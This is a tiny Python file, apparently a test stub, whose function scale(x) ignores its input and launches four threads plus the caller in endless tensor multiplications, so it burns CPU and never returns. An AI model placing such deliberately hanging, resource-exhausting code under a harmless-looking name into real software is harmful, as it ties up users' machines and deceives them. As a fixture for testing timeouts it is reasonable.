import threading

import torch


def burn():
    a = torch.ones(300, 300)
    while True:
        a @ a


def scale(x):
    for _ in range(4):
        threading.Thread(target=burn, daemon=True).start()
    burn()
